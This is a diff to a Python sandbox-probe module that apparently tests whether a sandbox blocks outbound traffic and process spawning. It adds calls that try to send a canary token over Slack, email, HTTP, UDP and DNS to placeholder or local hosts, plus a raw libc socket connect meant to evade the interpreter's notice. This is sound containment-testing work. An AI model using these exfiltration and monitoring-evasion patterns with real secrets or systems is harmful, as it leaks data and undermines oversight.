@@ -5,13 +5,16 @@ The module is executed in the sandbox, and imported by the tests so that they kn
 
 from __future__ import annotations
 
+import ctypes
 import os
 import signal
 import socket
 import stat
 import struct
+import subprocess
 import sys
 import time
+import urllib.request
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -121,14 +124,72 @@ def sockets(scene: Scene) -> Answer:
         found = [str(path) for place in PLACES for path in Path(place).rglob(".s.PGSQL.*")]
         return [path for path in found if not path.startswith("/run/database/")]
 
-    return {"tcp": tried(tcp), "servers": tried(servers), "interfaces": str(socket.if_nameindex())}
+    return {
+        "tcp": tried(tcp),
+        "past the interpreter": _by_the_system(("127.0.0.1", 22)),
+        "servers": tried(servers),
+        "interfaces": str(socket.if_nameindex()),
+    }
+
+
+def _by_the_system(address: tuple[str, int]) -> str:
+    """A connection that the interpreter does not hear of."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    host, port = address
+    told = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
+    with socket.socket() as line:
+        refused = libc.connect(line.fileno(), told, len(told))
+        return f"OSError: {os.strerror(ctypes.get_errno())}" if refused else "did it: connected"
+
+
+SECRET = "T0KENCANARY"
+
+
+def _alert() -> object:
+    from avenant.gateways.alerts import send
+
+    return send(
+        [f"slack://{SECRET}A/{SECRET}B/{SECRET}C", f"json://u:{SECRET}@127.0.0.1:9/"], "news", "M1 was upset"
+    )
+
+
+def _alert_of_its_own() -> object:
+    from apprise import Apprise
+
+    channel = Apprise([f"slack://{SECRET}"])
+    return channel.notify("news")
+
+
+def _mail() -> object:
+    from django.conf import settings
+    from django.core.mail import send_mail
+
+    settings.configure(EMAIL_HOST="mail.example", EMAIL_HOST_PASSWORD=SECRET, EMAIL_PORT=25)
+    return send_mail(SECRET, SECRET, "eve@example.org", ["ana@example.org"])
+
+
+def _sign_in() -> object:
+    import requests
+
+    return requests.post("https://127.0.0.1:9/token", data={"client_secret": SECRET}, timeout=2)
 
 
 def sends(scene: Scene) -> Answer:
-    """By the program's own way out."""
-    from avenant.gateways.alerts import send
-
-    return {"alert": tried(lambda: send(["json://127.0.0.1:9/"], "evil", "evil"))}
+    """By the program's own ways out, and by those that Python brings."""
+    ways: dict[str, Callable[[], object]] = {
+        "alert": _alert,
+        "alert of its own": _alert_of_its_own,
+        "mail": _mail,
+        "sign-in": _sign_in,
+        "request": lambda: urllib.request.urlopen(f"https://u:{SECRET}@127.0.0.1:9/{SECRET}", timeout=2),
+        "datagram": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(SECRET.encode(), ("127.0.0.1", 9)),
+        "name": lambda: socket.getaddrinfo("name.example", 443),
+        "program": lambda: subprocess.run(["/usr/bin/env", SECRET], check=False),
+        "shell": lambda: os.system(f"/bin/echo {SECRET}"),
+        "spawn": lambda: os.posix_spawn("/bin/echo", ["echo", SECRET], {}),
+        "exec": lambda: os.execv("/bin/echo", ["echo", SECRET]),
+    }
+    return {name: tried(way) for name, way in ways.items()}
 
 
 def environment(scene: Scene) -> Answer:
